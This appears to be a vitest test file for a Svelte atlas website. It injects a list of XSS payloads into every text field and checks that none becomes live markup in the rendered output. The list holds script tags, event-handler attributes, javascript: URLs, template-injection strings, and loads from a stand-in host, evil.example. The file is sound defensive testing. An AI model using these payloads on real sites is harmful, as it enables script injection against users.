/** Markup in any text of the atlas is shown as text, wherever that text is written. */
import { readFileSync } from 'node:fs';
import { Parser } from 'htmlparser2';
import type { Component } from 'svelte';
import { render } from 'svelte/server';
import { expect, test } from 'vitest';
import type { Atlas } from '../../src/lib/atlas/types.ts';
import ConcernBody from '../../src/lib/components/concern/ConcernBody.svelte';
import DataBlock from '../../src/lib/components/DataBlock.svelte';
import FeatureBody from '../../src/lib/components/feature/FeatureBody.svelte';
import Panel from '../../src/lib/components/panel/Panel.svelte';
import * as snippets from '../../src/lib/embed/snippet.ts';
import { standaloneSvg } from '../../src/lib/picture/standalone.ts';
import Timeline from '../../src/lib/timeline/Timeline.svelte';
import { feedOf } from '../../src/site/feed.server.ts';
import { aboutFeature } from '../../src/site/linked-data.ts';
import JsonLd from '../../src/site/page/JsonLd.svelte';
import { figure } from '../figures/figure.ts';

const VECTORS = [
	'<script>a(1)</script>',
	'<script src=//evil.example/x.js></script>',
	'</script><script>a(1)</script>',
	'</style><script>a(1)</script>',
	'</title><svg onload=a(1)>',
	'</textarea><img src=x onerror=a(1)>',
	'<!--<img src="--><img src=x onerror=a(1)//">',
	']]><script>a(1)</script>',
	'<img src=x onerror=a(1)>',
	'<svg onload=a(1)>',
	'<svg><animate onbegin=a(1) attributeName=x>',
	'<svg><set attributeName=href to=javascript:a(1)>',
	'<svg><use href="data:image/svg+xml,<svg id=x onload=a(1)>#x">',
	'<math><mtext><table><mglyph><style><img src=x onerror=a(1)>',
	'<iframe srcdoc="<script>a(1)</script>">',
	'<iframe src=javascript:a(1)>',
	'<object data=javascript:a(1)>',
	'<embed src=javascript:a(1)>',
	'<a href=javascript:a(1)>x</a>',
	'<form action=javascript:a(1)><button>x',
	'<base href=//evil.example/>',
	'<meta http-equiv=refresh content="0;url=javascript:a(1)">',
	'<link rel=stylesheet href=//evil.example/x.css>',
	'<style>@import "//evil.example/x.css"</style>',
	'<details open ontoggle=a(1)>',
	'<video><source onerror=a(1)>',
	'<body onload=a(1)>',
	'<input autofocus onfocus=a(1)>',
	'<template shadowrootmode=open><script>a(1)</script>',
	'<noscript><p title="</noscript><img src=x onerror=a(1)>">',
	'" onmouseover="a(1)" x="',
	"' onfocus='a(1)' autofocus='",
	'` onerror=a(1) `',
	'javascript:a(1)',
	'{@html "<img src=x onerror=a(1)>"}',
	'{{constructor.constructor("a(1)")()}}'
];
const PAYLOADS = VECTORS.flatMap((vector) => [vector, `">${vector}`, `'-->${vector}`]);

/** What of the atlas is text; the rest are ids, addresses, numbers and words of fixed lists. */
const TEXTS = new Set(
	'title short publisher nature dateKnown about given family voice exact prefix suffix note text label of name kindLabel summary methodNote sub usedBy credit usedFor description alt state word edition'.split(
		' '
	)
);

/** The atlas with something behind every text. */
function tainted<T>(value: T, payload: string, key = ''): T {
	if (typeof value === 'string') return (TEXTS.has(key) ? value + payload : value) as T;
	if (Array.isArray(value)) return value.map((one) => tainted(one as unknown, payload, key)) as T;
	if (value === null || typeof value !== 'object') return value;
	return Object.fromEntries(
		Object.entries(value).map(([name, one]) => [name, tainted(one as unknown, payload, name)])
	) as T;
}

const place = { base: '', headingId: 'title', level: 2, room: 'popover' } as const;
const html = (component: Component<never>, props: object) =>
	render(component as Component<object>, { props }).body;

/** Every sink, with the features and concerns of one turn. */
function written(atlas: Atlas, turn: number): Record<string, string> {
	const feature = atlas.features[turn % atlas.features.length]!;
	const concern = atlas.concerns[turn % atlas.concerns.length]!;
	const { title, alt } = atlas.views[turn % atlas.views.length]!;
	const snippet = { frame: 'https://a.example/', page: 'https://b.example/', height: 500 };
	const known = { ...snippet, title, quote: atlas.passages[0]!.parts[0]!.exact };
	const at = { x: 50, y: 50, min: 0, rank: 1, side: 'top', group: 'countries', type: 'country' };
	const label = { ...at, text: feature.name, sub: alt, feature: feature.id, small: false };
	const frame = { scale: 1, box: { x: 0, y: 0, width: 600, height: 250 } };
	return {
		feature: html(FeatureBody as never, { ...place, feature, atlas }),
		concern: html(ConcernBody as never, { ...place, concern, atlas }),
		panel: html(Panel as never, {
			...{ atlas, base: '' },
			find: { index: '', further: false, timeline: '' }
		}),
		timeline: html(Timeline as never, { atlas, base: '' }),
		data: html(DataBlock as never, { id: 'x', data: { feature, concern } }),
		linked: html(JsonLd as never, { graph: aboutFeature(atlas, feature, 'https://a.example') }),
		frame: snippets.iframeHtml(known),
		oembed: snippets.oembedHtml(known),
		amp: snippets.ampHtml(known, 'https://a.example/x.png'),
		figure: snippets.figureHtml(known, 'https://a.example/x.png', alt, title),
		picture: standaloneSvg({
			...{ picture: { frame, paths: [] } as never, labels: [label] as never, open: [] },
			...{ title, credit: alt }
		}),
		feed: feedOf(`## 1.0.0 (2026-01-31)\n\n- ${title}\n`, '2026-01-31-x', [], 'https://a.example')
	};
}

/** Every element with its attributes, every address that one leads to, and all text. */
function seen(markup: string) {
	const shapes = new Set<string>();
	const addresses = new Set<string>();
	let text = '';
	const parser = new Parser(
		{
			onopentag(name, attributes) {
				shapes.add(name);
				for (const [attribute, value] of Object.entries(attributes)) {
					shapes.add(`${name} ${attribute}`);
					if (/^(href|src|data|action|to)$/.test(attribute)) addresses.add(value);
					text += ` ${value}`;
				}
			},
			ontext: (more) => (text += more),
			oncomment: (more) => /^(\[|\]|!|\[!|[\d\w-]*)$/.test(more) || shapes.add(`comment ${more}`)
		},
		{ decodeEntities: true }
	);
	parser.end(markup);
	return { shapes, addresses, text };
}

const atlas = JSON.parse(readFileSync('static/atlas/atlas.json', 'utf8')) as Atlas;
const turns = Math.max(atlas.features.length, atlas.concerns.length);
const sinks = Object.keys(written(atlas, 0));
// A longer text has other ways of being cut.
const harmless = [' x', ' and'.repeat(20)].map((words) => tainted(atlas, words));
const known = Object.fromEntries(
	sinks.map((sink) => [sink, { shapes: new Set<string>(), addresses: new Set<string>() }])
);
for (let turn = 0; turn < turns; turn++)
	for (const [sink, markup] of harmless.flatMap((one) => Object.entries(written(one, turn)))) {
		const { shapes, addresses } = seen(markup);
		for (const shape of shapes) known[sink]!.shapes.add(shape);
		for (const address of addresses) known[sink]!.addresses.add(address);
	}

test('a hundred pieces of markup in every text make no element, attribute or address anywhere', () => {
	expect(PAYLOADS.length).toBeGreaterThanOrEqual(100);
	const made: string[] = [];
	const shown = new Set<string>();
	for (const [turn, payload] of PAYLOADS.entries())
		for (const [sink, markup] of Object.entries(written(tainted(atlas, payload), turn))) {
			const { shapes, addresses, text } = seen(markup);
			for (const shape of shapes)
				if (!known[sink]!.shapes.has(shape)) made.push(`${sink}: ${shape} of ${payload}`);
			for (const address of addresses)
				if (!known[sink]!.addresses.has(address)) made.push(`${sink}: to ${address}`);
			if (text.includes(payload)) shown.add(sink);
		}
	figure('markup', 'all places', { wrong: made.length, of: PAYLOADS.length * sinks.length });
	expect(made).toEqual([]);
	// As text some of them stand there in every sink; in JSON others are written in escapes.
	expect([...shown].sort()).toEqual([...sinks].sort());
});

test('such markup would be found', () => {
	for (const payload of VECTORS.filter(
		(vector) => vector.startsWith('<') && !vector.startsWith('</')
	))
		expect([...seen(`<p>${payload}</p>`).shapes].length, payload).toBeGreaterThan(1);
});
